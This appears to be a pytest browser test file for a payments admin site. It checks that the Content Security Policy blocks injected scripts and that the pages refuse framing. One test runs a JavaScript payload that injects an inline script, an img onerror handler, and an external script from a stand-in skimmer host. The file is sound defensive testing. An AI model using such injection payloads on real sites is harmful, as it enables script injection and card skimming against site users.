"""No page asks for more than its policy lets it have, and no script gets in."""

import pytest

from .conftest import Tab

_SLIP_IN = """() => {
    const script = document.createElement("script");
    script.textContent = "globalThis.slippedIn = 'a script'";
    const image = document.createElement("img");
    image.setAttribute("onerror", "globalThis.slippedIn = 'a handler'");
    image.src = "/nothing.png";
    const foreign = document.createElement("script");
    foreign.src = "https://evil.example/skimmer.js";
    const done = new Promise((resolve) => image.addEventListener("error", resolve));
    document.body.append(script, image, foreign);
    return done.then(() => globalThis.slippedIn ?? null);
}"""


def test_every_page_of_the_admin_needs_no_more_than_it_may(tab: Tab) -> None:
    tab.sign_in()
    lists = _read_links(tab, "#content-main .app-payments_graphql th a")
    assert len(lists) >= 9
    questions = set()
    for path in lists:
        _visit(tab, path)
        rows = _read_links(tab, "#result_list tbody tr th a")
        for row in rows[:5]:
            _visit(tab, row)
            questions |= {
                link
                for link in _read_links(tab, ".object-tools a, .payments-case-actions a")
                if "/history/" not in link
            }
    assert {path.rstrip("/").rpartition("/")[2] for path in questions} == {
        "refund", "refund_overpayment", "answer", "accept", "cancel", "resolve", "retry", "erase",
        "evidence",
        "charge", "read", "note",
    }  # fmt: skip
    for path in questions:
        _visit(tab, path)


@pytest.mark.parametrize("path", ["/admin/", "/graphql/"])
def test_a_script_that_was_slipped_into_a_page_does_not_run(tab: Tab, path: str) -> None:
    tab.sign_in()
    tab.open(path)
    assert tab.page.evaluate(_SLIP_IN) is None
    refused = [text for text in tab.refused if text.startswith("Policy:")]
    assert {text.split()[1] for text in refused} == {"script-src-elem", "script-src-attr"}
    assert any("https://evil.example/skimmer.js" in text for text in refused)
    tab.refused.clear()


def test_a_page_of_another_site_cannot_frame_this_one(tab: Tab) -> None:
    for path in ("/admin/login/", "/graphql/"):
        response = tab.open(path)
        assert response.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]


def _visit(tab: Tab, path: str) -> None:
    response = tab.open(path)
    assert response.status == 200, path
    assert "unsafe" not in response.headers["content-security-policy"]


def _read_links(tab: Tab, selector: str) -> list[str]:
    links: list[str] = tab.page.locator(selector).evaluate_all(
        "(links) => links.map((link) => link.getAttribute('href'))"
    )
    base = tab.page.url.removeprefix(tab.site.url)
    return [link if link.startswith("/") else f"{base}{link}" for link in links]
